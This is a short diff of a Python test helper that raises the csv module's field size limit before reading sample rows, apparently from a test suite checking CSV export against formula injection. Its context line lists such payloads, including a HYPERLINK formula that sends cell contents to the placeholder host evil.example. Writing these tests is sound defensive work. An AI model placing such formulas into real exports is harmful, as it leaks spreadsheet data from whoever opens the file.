@@ -24,6 +24,9 @@ DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(A1:A9)"
 
 
 def _csv_rows(path):
+    # Reading a sample in this process (the property tests do) lowers the csv module's global
+    # field limit; an analyst's reader has no such limit on a note.
+    csv.field_size_limit(sys.maxsize)
     with open(path, newline="", encoding="utf-8") as fh:
         return list(csv.DictReader(fh))
 
